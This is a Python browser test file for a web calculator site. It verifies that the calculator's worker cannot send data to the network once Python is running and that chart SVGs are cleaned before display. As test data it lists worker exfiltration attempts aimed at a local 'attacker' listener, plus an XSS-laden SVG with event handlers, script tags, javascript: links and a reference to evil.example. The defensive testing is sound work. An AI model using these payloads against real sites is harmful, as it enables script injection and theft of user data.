"""The seller's data stays in the browser, enforced: the calculator worker has no network once Python is up,
and a chart's SVG cannot carry anything that runs or loads.
"""

import contextlib
import http.server
import json
import threading

import pytest
from runtime_site import (
    WorkerError,
    boot,
    check_calculator_live,
    copy_site,
    in_calc_worker,
    new_context,
    serve,
    violations,
    wait_live,
    wait_offline_copy,
)

pytestmark = pytest.mark.browser

# Every way out of a worker, tried after start-up; each must fail and reach no server.
ATTEMPTS = {
    "fetch": "await fetch('/leak/fetch')",
    "fetch from the prototype": "await Object.getPrototypeOf(self).fetch?.call(self, '/leak/proto')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '/leak/xhr'); x.send()",
    "WebSocket": "new WebSocket('ws://' + location.host + '/leak/ws')",
    "EventSource": "new EventSource('/leak/sse')",
    "importScripts": "importScripts('/leak/import.js')",
    "nested Worker": "new Worker('/leak/worker.js')",
    "Cache API": "await caches.open('x').then((c) => c.add('/leak/cache'))",
    "service worker": "await navigator.serviceWorker.ready",
    "font": "await new FontFace('x', 'url(/leak/font)').load()",
    "eval + import()": "await eval('import(\"/leak/eval.mjs\")')",
    "Function + import()": "await Function('return import(\"/leak/function.mjs\")')()",
    "async function constructor": "await (async () => {}).constructor('return import(\"/leak/async.mjs\")')()",
    "put fetch back": "self.fetch = () => 1; if (self.fetch() === 1) await 0; else throw new Error('kept')",
    "delete fetch": "if (!delete self.fetch) throw new Error('kept'); await fetch('/leak/deleted')",
    "redefine fetch": "Object.defineProperty(self, 'fetch', {value: () => 1})",
}


def try_in_worker(page, code: str) -> str:
    """'got through' when ``code`` completes, else the error it met."""
    try:
        return in_calc_worker(page, f"(async () => {{ {code}; return 'got through' }})()")
    except WorkerError as error:
        return str(error)


@pytest.fixture(scope="module")
def site(built_site, tmp_path_factory):
    return copy_site(built_site, tmp_path_factory.mktemp("sandbox") / "site")


@pytest.fixture(scope="module")
def site_without_csp(built_site, tmp_path_factory):
    return copy_site(built_site, tmp_path_factory.mktemp("sandbox-no-csp") / "site", csp=False)


class _Listener(http.server.BaseHTTPRequestHandler):
    """Records every request it gets (an attacker's server) and answers with a tiny script."""

    def do_GET(self) -> None:
        self.server.received.append(self.path)
        body = b"export default 1;"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def listener():
    """An HTTP server on another port of the same host: another origin, as an attacker's would be."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    server.daemon_threads = True
    server.received = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


# Every way out of the worker to another origin, as an attacker's code would try it once Python is up
# (`{o}`: the listener's origin, `{h}`: its host and port; the seller's data would ride in the URL).
ESCAPES = {
    "fetch": "await fetch('{o}/leak/fetch?d=1')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '{o}/leak/xhr?d=1'); x.send()",
    "WebSocket": "new WebSocket('ws://{h}/leak/ws?d=1')",
    "EventSource": "new EventSource('{o}/leak/sse?d=1')",
    "importScripts": "importScripts('{o}/leak/import-scripts.js?d=1')",
    "nested Worker": "new Worker('{o}/leak/worker.js?d=1')",
    "string setTimeout": "setTimeout(\"import('{o}/leak/timeout.mjs?d=1')\", 0)",
    "string setInterval": "self.__i = setInterval(\"import('{o}/leak/interval.mjs?d=1')\", 50)",
    "dynamic import()": "await import('{o}/leak/import.mjs?d=1')",
}


@pytest.mark.parametrize("policy", ["under the CSP", "without a CSP"])
def test_an_attacker_in_the_worker_reaches_no_other_origin(chromium, site, site_without_csp, policy):
    """Under the page's policy (which binds the blob-started worker) nothing gets out; without it, the worker's own
    lock still stops everything but import(), which is syntax: proof that the listener would hear a leak."""
    with serve(site if policy == "under the CSP" else site_without_csp) as server, listener() as spy:
        host, port = spy.server_address[:2]
        context = new_context(chromium)
        page = context.new_page()
        page.goto(server.base + "calculators/rate-check/")
        wait_live(page)
        outcomes = {
            name: try_in_worker(page, code.replace("{o}", f"http://{host}:{port}").replace("{h}", f"{host}:{port}"))
            for name, code in ESCAPES.items()
        }
        page.wait_for_timeout(1500)  # timers fire, connections open
        leaked = sorted({path.split("?")[0] for path in spy.received})
        if policy == "under the CSP":
            assert leaked == [], (leaked, outcomes)
            assert "got through" not in outcomes["dynamic import()"], outcomes
        else:
            assert leaked == ["/leak/import.mjs"], (leaked, outcomes)
        # the lock refuses every name it holds, CSP or not (string timers included)
        held = {name: text for name, text in outcomes.items() if name != "dynamic import()"}
        assert all("got through" not in text for text in held.values()), outcomes
        assert (
            "takes a function" in outcomes["string setTimeout"] and "takes a function" in outcomes["string setInterval"]
        )
        # and Python still answers
        check_calculator_live(page, "rate_check", "ja")
        context.close()


@pytest.mark.parametrize("start", ["plain", "snapshot"])
def test_the_worker_cannot_reach_the_network_once_python_is_up(chromium, site, start):
    with serve(site) as server:
        context = new_context(chromium)
        page = context.new_page()
        page.goto(server.base + "calculators/rate-check/")
        wait_live(page)
        if start == "snapshot":
            assert wait_offline_copy(page) == "ready"
            page.goto(server.base + "en/calculators/breach-risk/")
            wait_live(page)
        assert boot(page) == start

        # before the lock, the worker fetched its runtime (so these are real capabilities, taken away)
        assert in_calc_worker(page, "typeof WebAssembly") == "object"
        outcomes = {name: try_in_worker(page, code) for name, code in ATTEMPTS.items()}
        assert {name: text for name, text in outcomes.items() if "got through" in text} == {}, outcomes
        assert "switched off" in outcomes["fetch"]
        assert not [path for path in server.requested if "/leak/" in path]

        # and Python still answers
        calculator = "rate_check" if start == "plain" else "breach_risk"
        check_calculator_live(page, calculator, "ja" if start == "plain" else "en")
        assert violations(page) == []
        context.close()


HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:html="http://www.w3.org/1999/xhtml" viewBox="0 0 100 50" role="img" aria-labelledby="t" onload="window.__xss='svg'">
  <title id="t">Cancel rate per window</title>
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <path class="cr-line" d="M0 0L10 10" fill="url(#g)" onclick="window.__xss='click'"/>
  <image href="/leak/image.png" onerror="window.__xss='image'" width="10" height="10"/>
  <script>window.__xss = 'script'</script>
  <foreignObject width="10" height="10"><html:img src="/leak/foreign.png" onerror="window.__xss='foreign'"/></foreignObject>
  <html:img src="/leak/html.png" onerror="window.__xss='html'"/>
  <a href="javascript:void(window.__xss='link')"><text x="1" y="1">link</text></a>
  <use href="/leak/use.svg#x" xlink:href="http://evil.example/use.svg#x"/>
  <use href="#g"/>
  <rect width="5" height="5" style="fill: url(/leak/style.svg#x)" filter="url(/leak/filter.svg#f)"/>
  <set attributeName="onmouseover" to="window.__xss='set'"/>
  <animate attributeName="href" values="javascript:void(window.__xss='animate')"/>
  <style>@import url(/leak/style.css);</style>
  <text x="5" y="20" onmouseover="window.__xss='text'">2.5%</text>
</svg>"""


@pytest.mark.parametrize("policy", ["without a CSP", "under the CSP"])
def test_a_hostile_chart_is_cleaned_before_it_enters_the_page(chromium, site, site_without_csp, policy):
    with serve(site if policy == "under the CSP" else site_without_csp) as server:
        context = new_context(chromium)
        page = context.new_page()
        page.goto(server.base + "en/calculators/breach-risk/")
        wait_live(page)
        # the page's own render path for charts (calculators.mjs), fed a hostile SVG
        page.evaluate(
            """async (svg) => {
                const glue = await import(document.querySelector('script[src*="calculators.mjs"]').src);
                glue.renderChart(document.querySelector('[data-chart="curve"]'), svg);
            }""",
            HOSTILE_SVG,
        )
        page.eval_on_selector_all(
            '[data-chart="curve"], [data-chart="curve"] *',
            "els => els.forEach((e) => ['click', 'mouseover'].forEach((t) => e.dispatchEvent(new MouseEvent(t))))",
        )
        page.wait_for_timeout(500)  # images load, handlers would run
        assert page.evaluate("() => window.__xss ?? null") is None
        assert not [path for path in server.requested if "/leak/" in path]
        chart = page.locator('[data-chart="curve"] svg')
        names = chart.evaluate("svg => [svg, ...svg.querySelectorAll('*')].map((e) => e.localName)")
        assert set(names) <= {"svg", "title", "defs", "linearGradient", "stop", "path", "use", "rect", "text"}, names
        assert page.locator('[data-chart="curve"] title').text_content() == "Cancel rate per window"
        assert page.locator('[data-chart="curve"] path.cr-line').get_attribute("fill") == "url(#g)"
        assert page.locator('[data-chart="curve"] text').text_content() == "2.5%"
        attributes = chart.evaluate(
            "svg => [svg, ...svg.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => [a.name, a.value]))"
        )
        assert not [a for a in attributes if a[0].lower().startswith("on") or a[0] == "style"], attributes
        assert [value for name, value in attributes if name.endswith("href")] == ["#g"]
        # parsing the hostile text already met the page's policy: its inline handlers and styles were refused there too
        assert set(violations(page)) <= {"script-src-attr inline", "style-src-attr inline", "style-src-elem inline"}

        # a document that is not SVG at all shows nothing
        page.evaluate(
            """async () => {
                const glue = await import(document.querySelector('script[src*="calculators.mjs"]').src);
                const slot = document.querySelector('[data-chart="curve"]');
                glue.renderChart(slot, '<html xmlns="http://www.w3.org/1999/xhtml"><img src="/leak/x" onerror="window.__xss=1"/></html>');
                glue.renderChart(slot.parentElement.querySelector('[data-chart="curve"]'), '<svg><unclosed>');
            }"""
        )
        page.wait_for_timeout(300)
        assert page.locator('[data-chart="curve"] *').count() == 0
        assert page.evaluate("() => window.__xss ?? null") is None
        assert json.loads(page.get_attribute('[data-output="curve"]', "data-value") or "null") is not None
        context.close()
